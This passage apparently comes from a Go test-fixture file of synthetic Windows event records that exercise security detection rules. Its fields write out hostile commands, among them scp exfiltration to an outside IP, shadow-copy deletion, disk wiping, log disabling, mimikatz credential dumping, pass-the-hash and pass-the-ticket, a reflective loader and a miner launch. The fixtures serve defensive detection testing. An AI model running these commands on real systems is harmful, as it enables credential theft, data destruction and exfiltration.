				"Image":       "C:\\Windows\\System32\\OpenSSH\\scp.exe",
				"CommandLine": "scp.exe C:\\Users\\Public\\out.7z user@203.0.113.9:/tmp/",
				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
			},
		},
		{
			ID:      "4fb87cb9-267d-52b5-9cd5-16daaeaaaf63", // Volume Shadow Copies or Backup Catalog Deleted
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"Image":       "C:\\Windows\\System32\\vssadmin.exe",
				"CommandLine": "vssadmin.exe delete shadows /all /quiet",
				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
			},
		},
		{
			ID:      "81c604ce-8e13-58a5-860a-ad205e0d7337", // Security, Backup or Database Service Stopped From the Command Line
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"Image":       "C:\\Windows\\System32\\net.exe",
				"CommandLine": "net stop \"SQLWriter\" /y",
				"ParentImage": "C:\\ProgramData\\r.exe",
			},
		},
		{
			ID:      "fa9fec36-b37f-51bc-a7bb-d0ad3096f3cf", // Drive Formatted or Free Space Wiped From the Command Line
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"Image":       "C:\\Windows\\System32\\cipher.exe",
				"CommandLine": "cipher.exe /w:C:\\\\",
				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
			},
		},
		{
			ID:      "59bd31d3-cc4f-53ed-9e12-3a918241044a", // Ransom Note Written
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 11,
			Fields: map[string]string{
				"Image":          "C:\\ProgramData\\r.exe",
				"TargetFilename": "C:\\Shares\\Finance\\HOW_TO_DECRYPT_FILES.txt",
			},
		},
		{
			ID:      "fae1b996-0294-55fa-8493-ee26e3cd2ad3", // System Shutdown or Reboot Forced by a Script or User-Path Program
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"Image":       "C:\\Windows\\System32\\shutdown.exe",
				"CommandLine": "shutdown.exe /r /t 0 /f",
				"ParentImage": "C:\\ProgramData\\r.exe",
			},
		},
		{
			ID:      "c6c98533-3847-5f94-8075-f99ca3541005", // Account Deleted or Its Password Reset From the Command Line
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"Image":       "C:\\Windows\\System32\\net.exe",
				"CommandLine": "net user Administrator N3wP4ss!",
				"ParentImage": "C:\\ProgramData\\r.exe",
			},
		},
		{
			ID:      "ec01ddad-c5d0-5170-b872-44ffc1b835a7", // Desktop Wallpaper Changed by a Script Host or User-Path Program
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 13,
			Fields: map[string]string{
				"Image":        "C:\\ProgramData\\r.exe",
				"TargetObject": "HKU\\S-1-5-21-1-2-3-1001\\Control Panel\\Desktop\\Wallpaper",
				"Details":      "C:\\ProgramData\\note.bmp",
			},
		},
		{
			ID:      "824e2c82-8bbb-5abe-a309-caebab6b9768", // Cryptocurrency Miner Started
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"Image":       "C:\\ProgramData\\svc.exe",
				"CommandLine": "svc.exe -o stratum+tcp://pool.example:3333 -u 4AbC... -p x --donate-level 1",
				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
			},
		},
		{
			ID:      "1d22f737-9625-52cd-90ea-526e54faa04f", // Event Log Disabled or Redirected With wevtutil
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"Image":       "C:\\Windows\\System32\\wevtutil.exe",
				"CommandLine": "wevtutil sl Security /e:false",
				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
			},
		},
		{
			ID:      "39db8e43-bf9a-433d-bbf0-4393fbc895d4", // Network Configuration Discovery From a Shell
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"Image":       "C:\\Windows\\System32\\ARP.EXE",
				"CommandLine": "arp -a",
				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
			},
		},
		{
			ID:      "5dcab0fb-0d84-5adf-a9da-914fa3d71112", // Network Connection Discovery With netstat From a Shell
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"Image":       "C:\\Windows\\System32\\NETSTAT.EXE",
				"CommandLine": "netstat -ano",
				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
			},
		},
		{
			ID:      "79aca5d5-1091-577b-b1b0-060dcb51ae4c", // Network Share Discovery With net view or net share
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"Image":       "C:\\Windows\\System32\\net.exe",
				"CommandLine": "net view \\\\fs01 /all",
				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
			},
		},
		{
			ID:      "93744a6e-b3e3-4535-9cca-c59f37a2fce7", // Service Discovery With tasklist /svc
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"Image":       "C:\\Windows\\System32\\tasklist.exe",
				"CommandLine": "tasklist /svc",
				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
			},
		},
		{
			ID:      "e2a9136e-c4ad-5fa0-8d2e-3658afd4f891", // Process Discovery With Filtered or Verbose tasklist
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"Image":       "C:\\Windows\\System32\\tasklist.exe",
				"CommandLine": "tasklist /fi \"USERNAME eq NT AUTHORITY\\SYSTEM\"",
				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
			},
		},
		{
			ID:      "173c5e3c-12ff-4fe8-9bf5-ba3b4cfba502", // Network Session Enumeration With net session
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"Image":       "C:\\Windows\\System32\\net.exe",
				"CommandLine": "net session",
				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
			},
		},
		{
			ID:      "9349dc6c-3106-50d0-99d4-80f1fb4b3e3a", // Logged-On User Enumeration With quser, qwinsta or query
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"Image":       "C:\\Windows\\System32\\quser.exe",
				"CommandLine": "quser /server:fs01",
				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
			},
		},
		{
			ID:      "48408dd1-6f1a-4e2c-ae21-be161b7d8484", // Local Account Enumeration With net.exe
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"Image":       "C:\\Windows\\System32\\net.exe",
				"CommandLine": "net user",
				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
			},
		},
		{
			ID:      "b1418d15-530f-5ccb-9ed7-a2f5dba1b745", // Local Group Enumeration With net.exe
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"Image":       "C:\\Windows\\System32\\net.exe",
				"CommandLine": "net localgroup administrators",
				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
			},
		},
		{
			ID:      "ac775fe3-c6c0-4be2-a8ab-0221108205ba", // Domain Account Enumeration With net.exe
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"Image":       "C:\\Windows\\System32\\net.exe",
				"CommandLine": "net user /domain",
				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
			},
		},
		{
			ID:      "a9fd7276-482b-5f37-b7f0-3d0f2844d99d", // Domain Group Enumeration With net.exe
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"Image":       "C:\\Windows\\System32\\net.exe",
				"CommandLine": "net group \"Domain Admins\" /domain",
				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
			},
		},
		{
			ID:      "b30869c5-2eb6-49e2-9af8-223ebf76bb4b", // Domain Trust Discovery
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"Image":       "C:\\Windows\\System32\\nltest.exe",
				"CommandLine": "nltest /domain_trusts /all_trusts",
				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
			},
		},
		{
			ID:      "b9155659-4276-5302-8e58-ecb35c1930ab", // Domain Controller Discovery With nltest
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"Image":       "C:\\Windows\\System32\\nltest.exe",
				"CommandLine": "nltest /dclist:corp.local",
				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
			},
		},
		{
			ID:      "a36297b3-a407-5f07-aa54-d57cd995585c", // Directory Enumeration With AdFind or dsquery
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"Image":       "C:\\Users\\Public\\AdFind.exe",
				"CommandLine": "AdFind.exe -f \"(objectcategory=person)\"",
				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
			},
		},
		{
			ID:      "d346ce27-9df4-449f-856d-71ad376ddb3e", // Program in a User Folder Connects to SMB on Another Host
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 3,
			Fields: map[string]string{
				"Image":           "C:\\Users\\bob\\Desktop\\tool.exe",
				"DestinationPort": "445",
				"DestinationIp":   "10.0.0.7",
				"Initiated":       "true",
			},
		},
		{
			ID:      "1a7b9cce-e2d8-5974-adf5-268037fbd85d", // Program in a User Folder Connects to the RPC Endpoint Mapper on Another Host
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 3,
			Fields: map[string]string{
				"Image":           "C:\\Users\\bob\\Desktop\\tool.exe",
				"DestinationPort": "135",
				"DestinationIp":   "10.0.0.7",
				"Initiated":       "true",
			},
		},
		{
			ID:      "306c1198-39e2-5290-9cc9-81c1eb49c462", // Program in a User Folder Connects to WinRM on Another Host
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 3,
			Fields: map[string]string{
				"Image":           "C:\\Users\\bob\\Desktop\\tool.exe",
				"DestinationPort": "5985",
				"DestinationIp":   "10.0.0.7",
				"Initiated":       "true",
			},
		},
		{
			ID:      "97c12bce-a064-5cea-bca6-8bee46a42381", // Certutil Decodes a File
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"Image":       "C:\\Windows\\System32\\certutil.exe",
				"CommandLine": "certutil -decode C:\\Users\\Public\\a.txt C:\\Users\\Public\\a.exe",
				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
			},
		},
		{
			ID:      "f0f6ee2e-f558-521a-8f29-153ac7e59831", // Reflective PE Loader in a PowerShell Script Block
			Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4104,
			Fields: map[string]string{
				"ScriptBlockText": "$a = [System.Reflection.Assembly]::Load([Convert]::FromBase64String($b64)); $a.EntryPoint.Invoke($null, @(,[string[]]@()))",
			},
		},
		{
			ID:      "7463c8f1-0687-541e-b896-2c39ab2f64cc", // Reflective PE Loader Functions in the PowerShell Module Log
			Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4103,
			Fields: map[string]string{
				"Payload": "CommandInvocation(Test-MemoryRangeValid): \"Test-MemoryRangeValid\"",
			},
		},
		{
			ID:      "e536af5d-d351-56d7-ab17-c35a5c1da8f6", // Pass-the-Hash Logon Started From the Command Line
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"Image":       "C:\\Users\\Public\\m.exe",
				"CommandLine": "m.exe \"sekurlsa::pth /user:admin /domain:corp /ntlm:8846f7eaee8fb117ad06bdd830b7586c /run:cmd.exe\" exit",
				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
			},
		},
		{
			ID:      "f21d9c24-c99f-50a7-91f1-6a0237454ad0", // Kerberos Ticket Injected Into the Logon Session (Pass the Ticket)
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"Image":       "C:\\Users\\Public\\r.exe",
				"CommandLine": "r.exe ptt /ticket:doIFmjCCBZagAwIBBaEDAgEWooIEozCCBJ9hggSbMIIEl6ADAgEFoQwbCkNPUlAuTE9DQUw=",
				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
			},
		},
		{
			ID:      "aa74d2c7-6b2b-57f4-85ce-ab00a67d968e", // Electron Application Started With a Command-Launching Switch
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"Image":       "C:\\Users\\bob\\AppData\\Local\\Microsoft\\Teams\\current\\Teams.exe",
				"CommandLine": "Teams.exe --disable-gpu-sandbox --gpu-launcher=\"C:\\Windows\\System32\\cmd.exe /c C:\\Users\\Public\\a.exe &&\"",
				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
			},
		},
		{
			ID:      "0c79254e-e598-5031-8354-6761f9756421", // User Account Created With a Machine-Account Style Name
			Channel: "Security", EventID: 4720,
			Fields: map[string]string{
				"EventID":         "4720",
				"TargetUserName":  "WS-PRINT$",
				"SubjectUserName": "bob",
			},
		},
		{
			ID:      "c7cc4c22-8952-5ab3-ac6d-b8a92f7a29f0", // Disk Image or Container File Downloaded by a Browser or Mail Client
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 11,
			Fields: map[string]string{
				"Image":          "C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe",
				"TargetFilename": "C:\\Users\\bob\\Downloads\\Invoice_2026.iso",
			},
		},
		{
			ID:      "72118f3f-2491-54db-95de-fbf9766df304", // Password Filter or Notification Package Registered With LSA
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 13,
			Fields: map[string]string{
				"Image":        "C:\\Windows\\System32\\reg.exe",
				"TargetObject": "HKLM\\System\\CurrentControlSet\\Control\\Lsa\\Notification Packages",
				"Details":      "scecli pwfilt",
			},
		},
		{
			ID:      "7686fb18-7957-5fd1-b7dc-396386ccb665", // Network Packet Capture Started From the Command Line
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"Image":       "C:\\Windows\\System32\\netsh.exe",
				"CommandLine": "netsh trace start capture=yes tracefile=C:\\Users\\Public\\t.etl persistent=yes",
				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
			},
		},
		{
			ID:      "0bbd66fb-f1fe-56b9-b147-27a7268b4e3f", // Stored Windows Credentials Listed From the Command Line
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"Image":       "C:\\Windows\\System32\\cmdkey.exe",
				"CommandLine": "cmdkey /list",
				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
			},
		},
		{
			ID:      "3eda2d15-47a0-54cc-812b-6a936b1ec2e1", // Defender Reports Real-Time Protection Disabled
			Channel: "Microsoft-Windows-Windows Defender/Operational", EventID: 5001,
			Fields: map[string]string{
				"EventID":      "5001",
				"Product Name": "Microsoft Defender Antivirus",
			},
		},
		{
			ID:      "ba715e9e-7f96-5e14-b7eb-aa42f8cc965d", // Defender Configuration Changed to Exclude Files or Weaken Protection
			Channel: "Microsoft-Windows-Windows Defender/Operational", EventID: 5007,
			Fields: map[string]string{
				"EventID":   "5007",
				"New Value": "HKLM\\SOFTWARE\\Microsoft\\Windows Defender\\Exclusions\\Paths\\C:\\Users\\Public = 0x0",
			},
		},
		{
			ID:      "7acb9b8e-344d-4e0e-a931-4238015b4f99", // PowerView Domain User Enumeration (Module Log)
			Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4103,
			Fields: map[string]string{
				"Payload": "CommandInvocation(Get-DomainUser): \"Get-DomainUser\"\nParameterBinding(Get-DomainUser): name=\"Identity\"; value=\"x\"",
			},
		},
		{
			ID:      "346afce1-5b46-523f-8599-87fdd89efa27", // PowerView Domain Group Enumeration (Module Log)
			Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4103,
			Fields: map[string]string{
				"Payload": "CommandInvocation(Get-DomainGroup): \"Get-DomainGroup\"\nParameterBinding(Get-DomainGroup): name=\"Identity\"; value=\"x\"",
			},
		},
		{
			ID:      "5d8e069f-faae-5f93-93d6-bb3e4b933605", // PowerView Domain Computer Enumeration (Module Log)
			Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4103,
			Fields: map[string]string{
				"Payload": "CommandInvocation(Get-DomainComputer): \"Get-DomainComputer\"\nParameterBinding(Get-DomainComputer): name=\"Identity\"; value=\"x\"",
			},
		},
		{
			ID:      "b5f0a6ed-bf1b-5ebe-9c54-9b771149e625", // PowerView Directory ACL Enumeration (Module Log)
			Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4103,
			Fields: map[string]string{
				"Payload": "CommandInvocation(Get-DomainObjectAcl): \"Get-DomainObjectAcl\"\nParameterBinding(Get-DomainObjectAcl): name=\"Identity\"; value=\"x\"",
			},
		},
		{
			ID:      "5faa0ece-69cc-5404-a3f2-586ff03575fc", // PowerView Group Policy Enumeration (Module Log)
			Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4103,
			Fields: map[string]string{
				"Payload": "CommandInvocation(Get-DomainGPO): \"Get-DomainGPO\"\nParameterBinding(Get-DomainGPO): name=\"Identity\"; value=\"x\"",
			},
		},
		{
			ID:      "824cc74f-20a5-5ec0-a7da-e8b477db0887", // PowerView Domain Trust Enumeration (Module Log)
			Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4103,
			Fields: map[string]string{
				"Payload": "CommandInvocation(Get-DomainTrust): \"Get-DomainTrust\"\nParameterBinding(Get-DomainTrust): name=\"Identity\"; value=\"x\"",
			},
		},
		{
			ID:      "50eef79e-4a58-418e-90b8-f5a529e020f2", // Hunting for Hosts Where the User Is Local Administrator
			Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4103,
			Fields: map[string]string{
				"Payload": "CommandInvocation(Find-LocalAdminAccess): \"Find-LocalAdminAccess\"\nParameterBinding(Find-LocalAdminAccess): name=\"Identity\"; value=\"x\"",
			},
		},
		{
			ID:      "36fed34e-de45-46f3-8541-a9edb30b3da3", // Remote Session Enumeration With PowerView (Module Log)
			Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4103,
			Fields: map[string]string{
				"Payload": "CommandInvocation(Get-NetSession): \"Get-NetSession\"\nParameterBinding(Get-NetSession): name=\"Identity\"; value=\"x\"",
			},
		},
		{
			ID:      "f68f7613-8b80-5075-96c1-571915910c25", // PowerView Logged-On User Hunting (Module Log)
			Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4103,
			Fields: map[string]string{
				"Payload": "CommandInvocation(Get-NetLoggedon): \"Get-NetLoggedon\"\nParameterBinding(Get-NetLoggedon): name=\"Identity\"; value=\"x\"",
			},
		},
		{
			ID:      "b0cbd447-d709-4901-9457-ad0b863dfb4f", // PowerView Domain User Enumeration in a Script Block
			Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4104,
			Fields: map[string]string{
				"ScriptBlockText": "Get-DomainUser -Identity \"Domain Admins\" | Select-Object -First 5",
			},
		},
		{
			ID:      "cc78ca57-f675-5dc2-aeb0-8b5adfdf30e3", // PowerView Domain Group Enumeration in a Script Block
			Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4104,
			Fields: map[string]string{
				"ScriptBlockText": "Get-DomainGroup -Identity \"Domain Admins\" | Select-Object -First 5",
			},
		},
		{
			ID:      "e2ca4b66-343d-55c6-b0a6-7de6f8f04845", // PowerView Domain Computer Enumeration in a Script Block
			Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4104,
			Fields: map[string]string{
				"ScriptBlockText": "Get-DomainComputer -Identity \"Domain Admins\" | Select-Object -First 5",
			},
		},
		{
			ID:      "45d87a6b-b357-5e60-b9d9-6e2646681d5c", // PowerView Directory ACL Enumeration in a Script Block
			Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4104,
			Fields: map[string]string{
				"ScriptBlockText": "Get-DomainObjectAcl -Identity \"Domain Admins\" | Select-Object -First 5",
			},
		},
		{
			ID:      "5a6612cb-b41b-5eac-96e5-8e7979567e16", // PowerView Group Policy Enumeration in a Script Block
			Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4104,
			Fields: map[string]string{
				"ScriptBlockText": "Get-DomainGPO -Identity \"Domain Admins\" | Select-Object -First 5",
			},
		},
		{
			ID:      "324dad5f-f0fb-5e21-9efa-0de225e52f43", // PowerView Domain Trust Enumeration in a Script Block
			Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4104,
			Fields: map[string]string{
				"ScriptBlockText": "Get-DomainTrust -Identity \"Domain Admins\" | Select-Object -First 5",
			},
		},
		{
			ID:      "c1e65ac4-9daa-5bf6-b15f-7ac4288f2e80", // PowerView Domain Share Enumeration in a Script Block
			Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4104,
			Fields: map[string]string{
				"ScriptBlockText": "Find-DomainShare -Identity \"Domain Admins\" | Select-Object -First 5",
			},
		},
		{
			ID:      "1cdb3057-77c4-5218-a7b0-bbc2422c279e", // PowerView Remote Session Enumeration in a Script Block
			Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4104,
			Fields: map[string]string{
				"ScriptBlockText": "Get-NetSession -Identity \"Domain Admins\" | Select-Object -First 5",
			},
		},
		{
			ID:      "1d58e97b-9d40-586c-a2df-f7e04e6d7c43", // PowerView Logged-On User Hunting in a Script Block
			Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4104,
			Fields: map[string]string{
				"ScriptBlockText": "Get-NetLoggedon -Identity \"Domain Admins\" | Select-Object -First 5",
			},
		},
		{
			ID:      "dd277b70-e987-55fd-a280-0ab952aeff39", // PowerView Local Administrator Hunting in a Script Block
			Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4104,
			Fields: map[string]string{
				"ScriptBlockText": "Find-LocalAdminAccess -Identity \"Domain Admins\" | Select-Object -First 5",
			},
		},
		{
			ID:      "72fe4e3f-bb53-4260-adad-e12f8e2942d9", // PowerView-Style Domain User Enumeration Run by a Compiled Tool
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"Image":       "C:\\Users\\bob\\Desktop\\tool.exe",
				"CommandLine": "tool.exe Get-DomainUser -Identity \"Domain Admins\"",
				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
			},
		},
		{
			ID:      "3e807134-0bd7-5df9-8d77-f3dc0e25072a", // PowerView-Style Domain Group Enumeration Run by a Compiled Tool
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"Image":       "C:\\Users\\bob\\Desktop\\tool.exe",
				"CommandLine": "tool.exe Get-DomainGroup -Identity \"Domain Admins\"",
				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
			},
		},
		{
			ID:      "14418148-962d-5d1c-b4e1-4914ecbd5e0b", // PowerView-Style Domain Computer Enumeration Run by a Compiled Tool
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"Image":       "C:\\Users\\bob\\Desktop\\tool.exe",
				"CommandLine": "tool.exe Get-DomainComputer -Identity \"Domain Admins\"",
				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
			},
		},
		{
			ID:      "2128f6a2-2df0-5990-b0dc-a7a634395783", // PowerView-Style Directory ACL Enumeration Run by a Compiled Tool
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"Image":       "C:\\Users\\bob\\Desktop\\tool.exe",
				"CommandLine": "tool.exe Get-DomainObjectAcl -Identity \"Domain Admins\"",
				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
			},
		},
		{
			ID:      "370882d7-0291-58de-b485-cb80284dedab", // PowerView-Style Group Policy Enumeration Run by a Compiled Tool
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"Image":       "C:\\Users\\bob\\Desktop\\tool.exe",
				"CommandLine": "tool.exe Get-DomainGPO -Identity \"Domain Admins\"",
				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
			},
		},
		{
			ID:      "271807f8-8dea-56ca-85b3-9c10f0683396", // PowerView-Style Domain Trust Enumeration Run by a Compiled Tool
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"Image":       "C:\\Users\\bob\\Desktop\\tool.exe",
				"CommandLine": "tool.exe Get-DomainTrust -Identity \"Domain Admins\"",
				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
			},
		},
		{
			ID:      "4a9165cb-3a31-5beb-bde8-fc2e0c788cf4", // PowerView-Style Domain Share Enumeration Run by a Compiled Tool
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"Image":       "C:\\Users\\bob\\Desktop\\tool.exe",
				"CommandLine": "tool.exe Find-DomainShare -Identity \"Domain Admins\"",
				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
			},
		},
		{
			ID:      "e941d775-dd11-5597-b335-5dc83da3f9bb", // PowerView-Style Remote Session Enumeration Run by a Compiled Tool
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"Image":       "C:\\Users\\bob\\Desktop\\tool.exe",
				"CommandLine": "tool.exe Get-NetSession -Identity \"Domain Admins\"",
				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
			},
		},
		{
			ID:      "4a234260-cba6-5b52-ad54-7a33418bedb5", // PowerView-Style Logged-On User Hunting Run by a Compiled Tool
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"Image":       "C:\\Users\\bob\\Desktop\\tool.exe",
				"CommandLine": "tool.exe Get-NetLoggedon -Identity \"Domain Admins\"",
				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
			},
		},
		{
			ID:      "69e49f46-85d8-5d68-9333-7b21d3b19d1b", // PowerView-Style Local Administrator Hunting Run by a Compiled Tool
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"Image":       "C:\\Users\\bob\\Desktop\\tool.exe",
				"CommandLine": "tool.exe Find-LocalAdminAccess -Identity \"Domain Admins\"",
				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
			},
		},
		{
			ID:      "8af7f070-5985-5340-82bd-92734131284b", // LSASS Secrets Read With Mimikatz sekurlsa (Command Line)
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"Image":       "C:\\Users\\Public\\m.exe",
				"CommandLine": "m.exe privilege::debug \"sekurlsa::logonpasswords\" exit",
				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
			},
		},
		{
			ID:      "482d1ea0-60a1-5d6b-8149-65715a106b0e", // LSASS Secrets Read With Mimikatz sekurlsa (PowerShell)
			Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4104,
			Fields: map[string]string{
				"ScriptBlockText": "Invoke-Mimikatz -Command '\"sekurlsa::logonpasswords\"'",
			},
		},
		{
			ID:      "bf8d844f-1acf-53e7-b84c-ed6587659f7c", // SAM Hashes Read With Mimikatz lsadump::sam (Command Line)
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"Image":       "C:\\Users\\Public\\m.exe",
				"CommandLine": "m.exe privilege::debug \"lsadump::sam\" exit",
				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
			},
		},
		{
			ID:      "26ccc3a6-a2ca-56af-9442-39dafae32324", // SAM Hashes Read With Mimikatz lsadump::sam (PowerShell)
			Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4104,
			Fields: map[string]string{
				"ScriptBlockText": "Invoke-Mimikatz -Command '\"lsadump::sam\"'",
			},
		},
		{
			ID:      "fd2b8ed6-5c6e-560c-abd7-6b32510a8e12", // LSA Secrets Read With Mimikatz lsadump::secrets (Command Line)
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"Image":       "C:\\Users\\Public\\m.exe",
				"CommandLine": "m.exe privilege::debug \"lsadump::secrets\" exit",
				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
			},
		},
		{
			ID:      "979eba38-806c-51d1-9c11-36e2e43799c7", // LSA Secrets Read With Mimikatz lsadump::secrets (PowerShell)
			Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4104,
			Fields: map[string]string{
				"ScriptBlockText": "Invoke-Mimikatz -Command '\"lsadump::secrets\"'",
			},
		},
		{
			ID:      "a9bb7c01-4454-5a51-92e4-cb028c5678d6", // DCSync With Mimikatz lsadump::dcsync (Command Line)
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"Image":       "C:\\Users\\Public\\m.exe",
				"CommandLine": "m.exe privilege::debug \"lsadump::dcsync\" exit",
				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
			},
		},
		{
			ID:      "d63ee81b-2788-5a27-a575-05e0f0c6a4b4", // DCSync With Mimikatz lsadump::dcsync (PowerShell)
			Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4104,
			Fields: map[string]string{
				"ScriptBlockText": "Invoke-Mimikatz -Command '\"lsadump::dcsync\"'",
			},
		},
		{
			ID:      "32c82fa6-0e05-5384-aadf-14b779650473", // Vault Credentials Read With Mimikatz (Command Line)
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"Image":       "C:\\Users\\Public\\m.exe",
				"CommandLine": "m.exe privilege::debug \"vault::cred\" exit",
				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
			},
		},
		{
			ID:      "2c46feee-b0fd-56e4-bca1-33877892266e", // Vault Credentials Read With Mimikatz (PowerShell)
			Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4104,
			Fields: map[string]string{
				"ScriptBlockText": "Invoke-Mimikatz -Command '\"vault::cred\"'",
			},
		},
